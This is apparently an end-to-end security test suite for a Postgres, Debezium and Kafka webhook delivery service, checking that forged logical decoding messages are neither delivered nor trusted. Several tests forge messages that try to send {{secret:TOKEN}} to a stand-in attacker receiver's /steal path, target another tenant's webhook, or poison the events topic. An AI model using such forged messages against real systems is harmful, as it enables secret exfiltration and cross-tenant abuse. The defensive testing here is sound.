// Forged logical decoding messages, as an attacker sees them, on the real pipeline (Postgres,
// Debezium, Kafka, the service's dispatcher and projector, real HTTP receivers). Any role may call
// pg_logical_emit_message; a role that can read base.capture.message_prefix (here a superuser of
// the project's database) can write a message the connector reads (docs/security.md, "Cannot forge
// a message"). cdc-smoke checks such a message only up to the topic; this file follows it to the
// end, and checks that:
//
//   - a forged `http` request under the project's prefix, its URL, headers and body full of
//     {{secret:TOKEN}}, is never sent anywhere: it arrives as a webhook message without a webhook
//     id and ends dead ("webhook deleted"), with no request and no secret in what is recorded;
//     the project's genuine webhook messages go on being delivered;
//   - nor does its callback_function get called: webhooks have no callbacks (callbackOf), and a
//     role that can only read (pg_read_all_data, a slot of its own) must not make the service call
//     the project’s callback for a message id of its choosing;
//   - a forged webhook message naming the project's own webhook goes to that webhook's URL only,
//     with a {{secret:…}} in its row left as text;
//   - a forged webhook message naming another project's webhook (same service) ends dead in the
//     forging project, and that other project's receiver, deliveries and ledger see nothing;
//   - a message under any other prefix (128 zero bits, another project's real prefix) never
//     reaches the topic, nor a receiver, nor the ledger.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { randomUUID } from 'node:crypto';
import pg from 'pg';
import type { Consumer, KafkaMessage } from 'kafkajs';
import { Webhook } from 'standardwebhooks';
import { rebuildDeliveries, startWorkers, type Worker } from '../../src/delivery/index.js';
import { encodeEvent } from '../../src/delivery/events.js';
import { projectDatabaseName } from '../../src/projects/projects.js';
import { dbUrl, eventually } from '../helpers/env.js';
import { startTestService, type TestProject, type TestService } from '../helpers/service.js';
import { Receiver, type Received } from '../helpers/receiver.js';
import { committedToEnd, readTopic } from '../helpers/delivery-tools.js';

const TOKEN_A = 'secret-of-a-5f2c91d0';
const TOKEN_B = 'secret-of-b-07be44a3';

describe('forged logical decoding messages: what the dispatcher does with them, end to end', () => {
  let svc: TestService;
  let workers: Worker[] = [];
  let a: TestProject;
  let b: TestProject;
  let suA: pg.Client; // a superuser of A's database: can read the prefix, and emit
  let suB: pg.Client;
  let prefixA: string;
  let prefixB: string;
  let hookA: { id: string; signing_secret: string };
  let hookB: { id: string; signing_secret: string };
  let watch: Consumer;
  const onTopic: KafkaMessage[] = [];
  /** ids of genuine messages sent through base.outbox (base.http_request), not the message path */
  const viaTable = new Set<string>();
  const recvA = new Receiver();
  const recvB = new Receiver();
  const attacker = new Receiver();

  beforeAll(async () => {
    await recvA.start('127.0.0.2');
    await recvB.start('127.0.0.3');
    await attacker.start('127.0.0.4');
    // the attacker's address is allowed too: were a forgery sent there, it would arrive
    svc = await startTestService({ roles: ['api'], env: { OUTBOUND_ALLOW_CIDRS: '127.0.0.2/31,127.0.0.4/32', RETRY_TIME_SCALE: '0.001' } });
    workers = await startWorkers(svc.ctx, ['dispatcher', 'projector']);
    a = await svc.project('pro');
    b = await svc.project('pro');
    suA = new pg.Client({ connectionString: dbUrl(projectDatabaseName(a.ref)) });
    suB = new pg.Client({ connectionString: dbUrl(projectDatabaseName(b.ref)) });
    const hooks: { id: string; signing_secret: string }[] = [];
    for (const [p, su, recv, token] of [[a, suA, recvA, TOKEN_A], [b, suB, recvB, TOKEN_B]] as const) {
      await call(p, 'POST', '/outbox/enable');
      await su.connect();
      expect((await su.query('select rolsuper from pg_roles where rolname = current_user')).rows[0].rolsuper).toBe(true);
      await su.query('create table public.orders (id serial primary key, note text)');
      await call(p, 'PUT', '/secrets/TOKEN', { value: token });
      const hook = await call(p, 'POST', '/webhooks', {
        name: 'orders',
        table: 'public.orders',
        events: ['INSERT'],
        url: `${recv.url}/hook`,
        headers: { authorization: 'Bearer {{secret:TOKEN}}' },
        template: { note: '{{record.note}}', type: '{{type}}' },
      });
      hooks.push(hook.body);
    }
    [hookA, hookB] = hooks;
    // the prefix is set once the connector's task reads with it (src/outbox/messages.ts)
    const armed = (su: pg.Client) =>
      eventually(async () => (await su.query('select message_prefix from base.capture')).rows[0]?.message_prefix as string | null, 90_000, 'the message prefix armed');
    [prefixA, prefixB] = [await armed(suA), await armed(suB)];
    expect(prefixA).toMatch(/^base_outbox_[0-9a-f]{32}$/);
    expect(prefixB).toMatch(/^base_outbox_[0-9a-f]{32}$/);
    expect(prefixB).not.toBe(prefixA);
    // everything that reaches the outbox topic, from its start
    watch = svc.ctx.kafka.consumer({ groupId: `${svc.cfg.TOPIC_PREFIX}.forgery-watch` });
    await watch.connect();
    await watch.subscribe({ topic: svc.ctx.topics.outbox, fromBeginning: true });
    await watch.run({ eachMessage: async ({ message }) => void onTopic.push(message) });
  });

  afterAll(async () => {
    await watch?.disconnect();
    await Promise.all(workers.map((w) => w.stop()));
    await suA?.end();
    await suB?.end();
    await svc?.stop();
    for (const r of [recvA, recvB, attacker]) await r.stop();
  });

  const call = (p: TestProject, method: string, path: string, body?: unknown) => svc.manage(p, method, path, body);
  const delivery = async (p: TestProject, id: string) => {
    const r = await svc.api(p.ownerToken, 'GET', `/v1/projects/${p.ref}/outbox/deliveries/${id}`);
    return r.status === 200 ? r.body : r.status === 404 ? null : Promise.reject(new Error(`GET delivery ${id}: ${r.status}`));
  };
  const settled = (p: TestProject, id: string) =>
    eventually(async () => {
      const d = await delivery(p, id);
      return d && d.status !== 'pending' ? d : null;
    }, 60_000, `a final outcome of ${id} in ${p.ref}`);
  const ledger = async (id: string) => (await svc.ctx.db.query('select project_ref, run, attempt, outcome, final from delivery_ledger where message_id = $1', [id])).rows;
  const history = (d: any) => d.attempt_history.map((h: any) => [h.run, h.attempt, h.outcome, h.http_status, h.error]);
  const pastEventsEnd = () => committedToEnd(svc, svc.ctx.groups.callbacks, svc.ctx.topics.events);
  const topicRecord = (id: string) => onTopic.find((m) => m.headers?.id?.toString() === id);
  const headerValues = (m: KafkaMessage, name: string) => [m.headers?.[name]].flat().map((v) => v?.toString());

  /** A message shaped as base.webhook_trigger writes it (a base.outbox row, `payload` as JSON text). */
  const forge = (su: pg.Client, prefix: string, id: string, type: string, payload: object) =>
    su.query(`select pg_logical_emit_message(true, $1, convert_to($2, 'UTF8'))`, [
      prefix,
      JSON.stringify({ id, aggregatetype: 'message', aggregateid: id, type, payload: JSON.stringify({ id, ...payload }) }),
    ]);
  const rowChange = (webhookId: string, note: string) => ({
    kind: 'webhook',
    created_at: new Date().toISOString(),
    webhook_id: webhookId,
    payload: { type: 'INSERT', schema: 'public', table: 'orders', record: { id: 999, note }, old_record: null, webhook_id: webhookId, occurred_at: new Date().toISOString() },
  });
  /** A genuine insert into the hooked table, and its request once it arrives. */
  async function genuine(su: pg.Client, recv: Receiver, note: string): Promise<Received> {
    await su.query('insert into public.orders (note) values ($1)', [note]);
    return eventually(async () => recv.to('/hook').find((r) => JSON.parse(r.body).note === note), 60_000, `the genuine message "${note}"`);
  }

  it('a forged http request under the project’s own prefix, full of {{secret:…}}, ends dead as a webhook without an id: nothing sent, nothing substituted', async () => {
    const id = randomUUID();
    const secret = '{{secret:TOKEN}}';
    await forge(suA, prefixA, id, 'http', {
      kind: 'http',
      created_at: new Date().toISOString(),
      method: 'POST',
      url: `${attacker.url}/steal/${secret}`,
      headers: { authorization: `Bearer ${secret}`, 'x-token': secret },
      body: { token: secret },
      callback_function: null,
      timeout_ms: 5000,
    });
    const onTheTopic = await eventually(async () => topicRecord(id), 60_000, 'the forged message on the topic');
    expect(headerValues(onTheTopic, 'kind')).toEqual(['webhook']);
    expect(headerValues(onTheTopic, 'project')).toEqual([a.ref]);

    const d = await settled(a, id);
    expect(d).toMatchObject({ kind: 'webhook', status: 'dead', target: '(deleted webhook)', method: 'POST', webhook_id: null, attempts: 1, last_http_status: null, last_error: 'webhook deleted', callback: null });
    expect(history(d)).toEqual([[1, 1, 'dead', null, 'webhook deleted']]);
    expect(JSON.stringify(d)).not.toContain(TOKEN_A);
    expect(await ledger(id)).toEqual([{ project_ref: a.ref, run: 1, attempt: 1, outcome: 'dead', final: true }]);
    expect(await delivery(b, id)).toBeNull();

    // the project's genuine messages are still delivered after it, signed, with the webhook's own secret
    const seen = await genuine(suA, recvA, 'after the forged http request');
    expect(seen.headers.authorization).toBe(`Bearer ${TOKEN_A}`);
    expect(verify(hookA.signing_secret, seen)).toEqual({ note: 'after the forged http request', type: 'INSERT' });
    expect((await settled(a, String(seen.headers['webhook-id']))).status).toBe('delivered');
    expect(attacker.requests).toEqual([]);
    expect(recvA.requests.filter((r) => r.path !== '/hook')).toEqual([]);
  });

  it('a forged http request naming a callback function is not called back: the message path has no callbacks', async () => {
    // what only the service may do: tell the project's callback the outcome of a message it sent
    await suA.query(`
      create table public.cb_log (n serial primary key, payload jsonb not null);
      create function public.on_done(p jsonb) returns void language sql security definer as $$ insert into public.cb_log (payload) values (p) $$;
      revoke all on function public.on_done(jsonb) from public;
      grant execute on function public.on_done(jsonb) to base_callback;`);
    const id = randomUUID();
    await forge(suA, prefixA, id, 'http', { kind: 'http', created_at: new Date().toISOString(), method: 'POST', url: `${attacker.url}/cb`, headers: {}, body: null, callback_function: 'public.on_done', timeout_ms: 5000 });
    const d = await settled(a, id);
    expect(d).toMatchObject({ kind: 'webhook', status: 'dead', last_error: 'webhook deleted' });
    // The forged outcome's event is on the events topic before the projection shows it settled. Once
    // the callbacks group has committed past the topic's end, that event was read, and a callback row,
    // were one due, was written (the row is inserted before the offset is committed).
    await pastEventsEnd();
    expect((await svc.ctx.db.query('select project_ref, function, status from delivery_callbacks where message_id = $1', [id])).rows).toEqual([]);
    expect((await delivery(a, id)).callback).toBeNull();
    // a genuine request naming the same function is called back, so the function and its grant work
    recvA.answer('/genuine', { status: 200, body: 'ok' });
    const genuine = (await suA.query(`select base.http_request('POST', $1, '{}'::jsonb, '{}'::jsonb, 'public.on_done', 5000) as id`, [`${recvA.url}/genuine`])).rows[0].id as string;
    const rows = await eventually(async () => {
      const r = (await suA.query('select payload from public.cb_log')).rows;
      return r.length > 0 ? r : null;
    }, 60_000, 'the genuine callback');
    expect(rows.map((r) => r.payload.id)).toEqual([genuine]);
    viaTable.add(genuine);
    expect(attacker.requests).toEqual([]);
  });

  it('a forged webhook message naming the project’s own webhook goes to that webhook’s URL only, a {{secret:…}} in its row kept as text', async () => {
    const id = randomUUID();
    const before = recvA.to('/hook').length;
    await forge(suA, prefixA, id, 'webhook', rowChange(hookA.id, 'x {{secret:TOKEN}} y'));
    const seen = await eventually(async () => recvA.to('/hook').find((r) => r.headers['webhook-id'] === id), 60_000, 'the forged row change at A’s webhook');
    // signed by the webhook (as any message of it is), the row's text never read as a placeholder
    expect(verify(hookA.signing_secret, seen)).toEqual({ note: 'x {{secret:TOKEN}} y', type: 'INSERT' });
    expect(seen.body).not.toContain(TOKEN_A);
    expect(await settled(a, id)).toMatchObject({ kind: 'webhook', status: 'delivered', webhook_id: hookA.id, target: `${recvA.url}/hook`, last_http_status: 200 });
    expect(recvA.to('/hook')).toHaveLength(before + 1);
    expect(attacker.requests).toEqual([]);
  });

  it('a forged message with numbers no delivery event can carry (seq 2^53 − 1, created in the year 9999) does not hold the dispatcher’s offsets', async () => {
    // Until 2026-11-27 the seq was read, the request sent, and the outcome's event then failed to
    // encode (avsc: invalid "long") on every try: the record stayed unfinished, its partition's
    // offset was never committed again, and every restart sent the forgery once more.
    const [bigSeq, farFuture] = [randomUUID(), randomUUID()];
    await forge(suA, prefixA, bigSeq, 'webhook', { ...rowChange(hookA.id, 'seq out of range'), ordering_key: 'row:forged', seq: Number.MAX_SAFE_INTEGER });
    await forge(suA, prefixA, farFuture, 'webhook', { ...rowChange(hookA.id, 'from the far future'), created_at: '9999-12-31T23:59:59.999999Z' });
    // read as a time it cannot be: counted from now, delivered like any forgery naming A's webhook
    expect(await settled(a, farFuture)).toMatchObject({ kind: 'webhook', status: 'delivered', webhook_id: hookA.id });
    await genuine(suA, recvA, 'genuine after out-of-range numbers');
    // the dispatcher has finished every record of the topic, the malformed one skipped
    await committedToEnd(svc, svc.ctx.groups.dispatcher, svc.ctx.topics.outbox);
    expect(topicRecord(bigSeq)).toBeDefined();
    expect(await delivery(a, bigSeq)).toBeNull();
    expect(await ledger(bigSeq)).toEqual([]);
    expect(recvA.to('/hook').filter((r) => r.headers['webhook-id'] === bigSeq)).toEqual([]);
    expect(attacker.requests).toEqual([]);
  });

  it('a forged message claiming a webhook id that is no uuid (a number, a string) ends dead like a deleted webhook’s, with no id on its events or its delivery', async () => {
    // Until 2026-11-27 the claim went into the events as it was: a number failed to encode on every
    // try (the partition held for good), a string that is no uuid failed the projection's batch.
    const [asNumber, asString] = [randomUUID(), randomUUID()];
    await forge(suA, prefixA, asNumber, 'webhook', { ...rowChange(hookA.id, 'a number'), webhook_id: 12345 });
    await forge(suA, prefixA, asString, 'webhook', { ...rowChange(hookA.id, 'a string'), webhook_id: 'not-a-uuid' });
    for (const id of [asNumber, asString]) {
      expect(await settled(a, id)).toMatchObject({ kind: 'webhook', status: 'dead', webhook_id: null, target: '(deleted webhook)', last_error: 'webhook deleted' });
    }
    await genuine(suA, recvA, 'genuine after claims of no uuid');
    await committedToEnd(svc, svc.ctx.groups.dispatcher, svc.ctx.topics.outbox);
    expect(recvA.to('/hook').filter((r) => ([asNumber, asString] as string[]).includes(String(r.headers['webhook-id'])))).toEqual([]);
    expect(attacker.requests).toEqual([]);
  });

  it('an event the projection cannot hold (a webhook id that is no uuid, put straight on the events topic) is skipped, and the projection goes on', async () => {
    // the safety net behind the check above: one such event failed the projection's transaction on
    // every try, for every project's deliveries
    const poison = randomUUID();
    const now = Date.now();
    const producer = svc.ctx.kafka.producer();
    await producer.connect();
    try {
      await producer.send({
        topic: svc.ctx.topics.events,
        messages: [encodeEvent({ type: 'DeliveryAttempted', data: {
          message_id: poison, project: a.ref, kind: 'webhook', run: 1, attempt: 1, webhook_id: 'not-a-uuid', target: 'x', method: 'POST',
          callback_function: null, message_created_at: now * 1000, outcome: 'delivered', status: 'delivered', final: true, http_status: 200,
          smtp_code: null, error: null, response_body: null, retry_after_ms: null, next_attempt_at: null, started_at: now, finished_at: now,
          duration_ms: 1, ordering_key: null, seq: null,
        } })],
      });
    } finally {
      await producer.disconnect();
    }
    const seen = await genuine(suA, recvA, 'genuine after an event the projection refuses');
    expect(await settled(a, String(seen.headers['webhook-id']))).toMatchObject({ status: 'delivered' });
    await committedToEnd(svc, svc.ctx.groups.projector, svc.ctx.topics.events);
    expect(await delivery(a, poison)).toBeNull();
    // the rebuild reads the same topic through the same net: it ends, with A's deliveries back
    const listed = (await call(a, 'GET', '/outbox/deliveries?limit=100')).body.deliveries.length;
    const rebuilt = await rebuildDeliveries(svc.ctx, { project: a.ref });
    expect(rebuilt.deliveries).toBe(listed);
    expect(await delivery(a, poison)).toBeNull();
  });

  it('a forged webhook message under A’s prefix naming B’s webhook ends dead in A; B’s receiver, deliveries and ledger see nothing', async () => {
    const id = randomUUID();
    await forge(suA, prefixA, id, 'webhook', rowChange(hookB.id, 'forged for B'));
    const d = await settled(a, id);
    expect(d).toMatchObject({ kind: 'webhook', status: 'dead', target: '(deleted webhook)', attempts: 1, last_http_status: null, last_error: 'webhook deleted' });
    expect(history(d)).toEqual([[1, 1, 'dead', null, 'webhook deleted']]);
    expect(JSON.stringify(d)).not.toContain(recvB.url);
    expect(JSON.stringify(d)).not.toContain(TOKEN_B);
    const listed = (await call(a, 'GET', '/outbox/deliveries?limit=100')).body.deliveries as any[];
    expect(listed.filter((x) => x.target.includes(recvB.url))).toEqual([]);
    expect(await delivery(b, id)).toBeNull();
    expect(await ledger(id)).toEqual([{ project_ref: a.ref, run: 1, attempt: 1, outcome: 'dead', final: true }]);

    // B's own pipeline is live: its genuine message arrives, and it is the only request B ever got
    const seen = await genuine(suB, recvB, 'genuine of B');
    expect(verify(hookB.signing_secret, seen)).toEqual({ note: 'genuine of B', type: 'INSERT' });
    expect(recvB.requests).toHaveLength(1);
    expect(recvB.requests.some((r) => r.body.includes('forged for B'))).toBe(false);
  });

  it('a message under a prefix that is not A’s (zeros, B’s real one) never reaches the topic, a receiver or the ledger', async () => {
    const zeros = randomUUID();
    const asB = randomUUID();
    const beforeA = recvA.requests.length;
    const beforeB = recvB.requests.length;
    // both in one transaction before a genuine change: once the genuine one is delivered, the
    // connector has read past them (it decodes the transaction in order)
    await suA.query('begin');
    await forge(suA, `base_outbox_${'0'.repeat(32)}`, zeros, 'webhook', rowChange(hookA.id, 'under zeros'));
    await forge(suA, prefixB, asB, 'webhook', rowChange(hookB.id, 'under B’s prefix'));
    await suA.query(`insert into public.orders (note) values ('genuine after other prefixes')`);
    await suA.query('commit');
    const seen = await eventually(async () => recvA.to('/hook').find((r) => JSON.parse(r.body).note === 'genuine after other prefixes'), 60_000, 'the genuine message');
    const genuineId = String(seen.headers['webhook-id']);
    // Connect handed its producer whatever it read of the transaction before the genuine change, so
    // once that one is delivered, the rest is on the topic: read it to its end now (no sleep)
    const topic = (await readTopic(svc, svc.ctx.topics.outbox)).map((m) => m.headers?.id?.toString());
    expect(topic).toContain(genuineId);

    for (const id of [zeros, asB]) {
      expect(topic).not.toContain(id);
      expect(await ledger(id)).toEqual([]);
      expect(await delivery(a, id)).toBeNull();
      expect(await delivery(b, id)).toBeNull();
    }
    expect(recvA.requests.slice(beforeA).map((r) => JSON.parse(r.body).note)).toEqual(['genuine after other prefixes']);
    expect(recvB.requests.length).toBe(beforeB);
    expect(attacker.requests).toEqual([]);
    // every record of the topic from A's message path is one A's webhook wrote or one forged under A's own prefix
    const fromA = onTopic.filter((m) => headerValues(m, 'project')[0] === a.ref && !viaTable.has(headerValues(m, 'id')[0] ?? ''));
    expect(fromA.length).toBeGreaterThan(0);
    expect(fromA.every((m) => headerValues(m, 'kind')[0] === 'webhook')).toBe(true);
  });
});

const verify = (secret: string, r: Received) =>
  new Webhook(secret).verify(r.body, {
    'webhook-id': String(r.headers['webhook-id']),
    'webhook-timestamp': String(r.headers['webhook-timestamp']),
    'webhook-signature': String(r.headers['webhook-signature']),
  });
